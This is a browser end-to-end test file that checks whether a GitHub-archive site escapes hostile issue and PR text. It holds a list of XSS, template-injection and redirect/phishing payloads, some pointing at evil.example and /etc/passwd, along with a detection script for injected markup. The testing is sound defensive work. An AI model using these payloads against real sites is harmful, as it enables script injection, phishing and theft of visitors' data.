"""What strangers write on GitHub only shows: in a browser no script of theirs runs, even where no policy forbids it."""

from __future__ import annotations

from typing import TYPE_CHECKING, Final
from urllib.parse import urlencode

import pytest
import pytest_asyncio
from playwright.async_api import expect

from tests.e2e.browsing import DAY, NOW, REPO, Site, Watch, needs_a_browser, served, visit
from tests.servers.github import World

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from playwright.async_api import Browser, Dialog, Page, Route

pytestmark = [needs_a_browser, pytest.mark.asyncio(loop_scope="session")]

RUN: Final = "window.__pwned=1;alert(1)"

ATTACKS: Final = (
    f"<script>{RUN}</script>",
    f"</title></h1></bdi><script>{RUN}</script>",
    f'<img src=x class=pwned onerror="{RUN}">',
    f"<svg class=pwned onload={RUN}><animate onbegin={RUN}>",
    f'"><iframe class=pwned srcdoc="<script>{RUN}</script>"></iframe>',
    f"[click me](javascript:{RUN})",
    f"<a class=pwned href=javascript:{RUN}>here</a>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}",
    f"--><script>{RUN}</script><!-- <style class=pwned>*{{display:none}}</style>",
    "<!-- hidden --> shown",
    "<base class=pwned href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example/>",
    "![](https://evil.example/seen.png) <form class=pwned action=https://evil.example><button>Log in",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
    "ROCm \u202egnp.exe\u202c <b class=pwned>bold</b> &lt;script&gt; \u2066x\u2069",
    "]]></content><script>" + RUN + "</script> `<script>` ROCm AMD MI300X",
)
"""Of a title and, with others, of a body, a comment, a label."""

FIRST: Final = 501


def _hostile() -> World:
    world = World()
    repository = world.repository(REPO)
    for at, attack in enumerate(ATTACKS):
        when = NOW - DAY - (at + 1) * DAY / 40
        everything = "\n\n".join(ATTACKS)
        if at % 2:
            pull = repository.open_pr(
                f"[ROCm] {attack}",
                by=f"<b>{at}</b>",
                at=when,
                body=everything,
                number=FIRST + at,
                labels=[attack[:50], "rocm"],
                files=[f"csrc/rocm/{attack}.cu"],
            )
            pull.review(by="zoe", at=when, body=attack)
            pull.merge(by=f'"onload={at}', at=NOW - 0.9 * DAY)
        else:
            issue = repository.open_issue(
                f"[Bug]: {attack}",
                by=attack[:39],
                at=when,
                body=everything,
                number=FIRST + at,
                labels=[attack[:50]],
            )
            for other in ATTACKS:
                issue.comment(by=attack[:39], at=NOW - 0.8 * DAY, body=other)
    return world


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def hostile(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Site]:
    """An archive in which strangers attack everywhere."""
    lines = ("yesterday", "yesterday lang:zh", "week this")
    async with served(_hostile(), tmp_path_factory.mktemp("hostile"), lines) as site:
        yield site


async def test_no_script_of_a_stranger_runs_without_the_policy(chrome: Browser, hostile: Site) -> None:
    addresses = [
        hostile.front,
        f"{hostile.front}/digests",
        hostile.digest(),
        f"{hostile.digest()}?lang=zh",
        f"{hostile.digest()}/lists/issues_opened",
        f"{hostile.front}/topics/amd",
        f"{hostile.front}/search?q=script",
        f"{hostile.front}/ask?q=AMD+PRs+this+week",
        *(f"{hostile.front}/items/{FIRST + at}" for at in range(len(ATTACKS))),
    ]
    async with visit(chrome, hostile.url, watch=Watch(hostile.url)) as page:
        dialogs = await _defenceless(page)
        for address in addresses:
            response = await page.goto(address)
            assert response is not None
            assert response.ok, address
            await _unfolded(page)
            assert await _strange(page) == [], address

        assert dialogs == []


async def test_what_a_visitor_asks_and_searches_only_shows(chrome: Browser, hostile: Site) -> None:
    async with visit(chrome, hostile.url, watch=Watch(hostile.url)) as page:
        dialogs = await _defenceless(page)
        for attack in ATTACKS:
            await page.goto(f"{hostile.front}/search?{urlencode({'q': attack})}")
            assert _plain(await page.input_value("#q")) == _plain(attack)
            assert await _strange(page) == [], attack
        await page.goto(f"{hostile.front}/ask")
        for turn, attack in enumerate(ATTACKS[:4]):
            await page.fill("#q", attack)
            await page.press("#q", "Enter")
            await expect(page.locator(".question bdi").nth(turn)).to_have_text(attack)
            await expect(page.locator(".stop")).to_have_count(0)
            assert await _strange(page) == [], attack

        assert dialogs == []


async def test_hostile_titles_are_shown_as_they_were_written(chrome: Browser, hostile: Site) -> None:
    async with visit(chrome, hostile.url) as page:
        for at, attack in enumerate(ATTACKS):
            await page.goto(f"{hostile.front}/items/{FIRST + at}")
            shown = await page.locator("h1").inner_text()
            assert _plain(attack) in _plain(shown)


async def test_an_attack_that_is_not_escaped_would_be_seen(chrome: Browser, hostile: Site) -> None:
    async with visit(chrome, hostile.url, watch=Watch(hostile.url)) as page:
        dialogs = await _defenceless(page)
        await page.goto("/robots.txt")
        await page.set_content(f"<!doctype html><title>x</title><main>{ATTACKS[0]}{ATTACKS[2]}</main>")
        await expect(page.locator(".pwned")).to_be_attached()

        assert await _strange(page)
        assert dialogs


async def _defenceless(page: Page) -> list[str]:
    """Takes the policies of the pages away; returns where dialogs are told."""
    told: list[str] = []

    async def without_policy(route: Route) -> None:
        response = await route.fetch()
        headers = {
            name: value for name, value in response.headers.items() if name != "content-security-policy"
        }
        await route.fulfill(response=response, headers=headers)

    async def dismissed(dialog: Dialog) -> None:
        told.append(dialog.message)
        await dialog.dismiss()

    await page.route(lambda url: "/static/" not in url, without_policy)
    page.on("dialog", dismissed)
    return told


async def _unfolded(page: Page) -> None:
    """Everything opened, and the pointer over every link."""
    await page.evaluate(
        "document.querySelectorAll('details').forEach(each => { each.open = true });"
        "document.querySelectorAll('main *').forEach(each => {"
        " each.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));"
        " each.dispatchEvent(new FocusEvent('focus')); })"
    )


async def _strange(page: Page) -> list[str]:
    """What no page of ours has, and whether a script of another's ran."""
    strange: list[str] = await page.evaluate(
        """() => {
            const found = window.__pwned ? ["a script ran"] : [];
            const ours = `${location.origin}/static/`;
            for (const each of document.querySelectorAll("*")) {
                const names = each.getAttributeNames();
                const href = each.getAttribute("href") || each.getAttribute("action") || "";
                if (
                    names.some((name) => name.startsWith("on") || name === "style" || name === "srcdoc") ||
                    /^\\s*(javascript|data|vbscript):/i.test(href) ||
                    /^(IFRAME|OBJECT|EMBED|BASE|STYLE|IMG|FRAME|VIDEO|AUDIO)$/i.test(each.tagName) ||
                    (each.tagName === "SCRIPT" && !each.src.startsWith(ours)) ||
                    (each.tagName === "META" && each.httpEquiv) ||
                    each.classList.contains("pwned") ||
                    (href.startsWith("http") && !/^https:\\/\\/github\\.com\\/vllm-project\\/vllm(\\/|$)/.test(href) &&
                        !href.startsWith(location.origin))
                ) found.push(each.outerHTML.slice(0, 200));
            }
            return found;
        }"""
    )
    return strange


def _plain(text: str) -> str:
    """Without what nobody sees, and without marks of code, which become code."""
    return "".join(
        each for each in text if each not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069` "
    )
